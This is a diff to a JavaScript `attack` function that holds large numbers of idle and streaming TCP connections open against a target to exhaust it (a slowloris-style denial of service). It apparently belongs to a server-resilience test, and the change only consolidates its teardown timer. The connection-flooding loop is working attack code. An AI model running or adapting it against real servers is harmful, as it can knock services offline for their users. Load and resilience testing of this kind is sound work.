@@ -26,23 +26,29 @@ export async function attack({ url, until }) {
   // Like guards, not all at the same moment: more than a thousand connections at once are volume too.
   const pause = (shortest) =>
     new Promise((resolve) => setTimeout(resolve, PAUSE_MS * (shortest + Math.random())));
+  const open = new Set();
   const keep = async (kind, text) => {
     await pause(0);
     while (!until()) {
       const socket = connect({ host, port, localAddress: ADDRESS });
+      open.add(socket);
       socket.on('error', () => undefined);
       socket.resume();
       const closed = new Promise((resolve) => socket.once('close', resolve));
       if (text !== '') socket.write(text);
       counts[kind]++;
-      const end = setInterval(() => until() && socket.destroy(), 100);
       await closed;
-      clearInterval(end);
+      open.delete(socket);
       await pause(0.5);
     }
   };
+  // One timer for all: the attacker shares his core with the victims.
+  const end = setInterval(() => {
+    if (until()) for (const socket of open) socket.destroy();
+  }, 100);
   const streams = Array.from({ length: STREAMS }, () => keep('streams', stream));
   const idle = Array.from({ length: CONNECTIONS }, () => keep('idle', ''));
   await Promise.all([...streams, ...idle]);
+  clearInterval(end);
   return counts;
 }
